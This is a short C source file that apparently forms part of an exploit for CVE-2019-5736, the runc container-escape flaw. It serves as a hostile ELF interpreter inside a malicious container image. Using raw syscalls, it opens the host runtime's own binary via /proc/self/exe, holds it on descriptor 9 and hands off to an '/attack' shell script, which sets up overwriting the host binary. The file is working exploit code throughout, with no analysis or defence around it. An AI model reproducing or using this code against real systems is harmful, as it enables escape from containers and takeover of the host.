/* The ELF interpreter of a hostile image (CVE-2019-5736). A script whose interpreter is /proc/self/exe makes the kernel
 * execute the host's program once more, and that program asks for this file as its ld.so. So this runs with the host's
 * program as its own: it keeps that file open as descriptor 9 and hands over to the script /attack, with the name of the
 * first script as its argument. No C library: the stack is laid out for another program. */
#define SYS_open 2
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call hand_over\n");

void hand_over(long *stack) {
    char **words = (char **)(stack + 1);
    char *script = words[stack[0] - 1];
    char *shell[] = {"sh", "/attack", script, 0};
    char *environment[] = {"PATH=/bin", 0};
    call(SYS_dup2, call(SYS_open, (long)"/proc/self/exe", 0, 0), 9, 0);
    call(SYS_execve, (long)"/bin/sh", (long)shell, (long)environment);
    call(SYS_exit, 99, 0, 0);
}
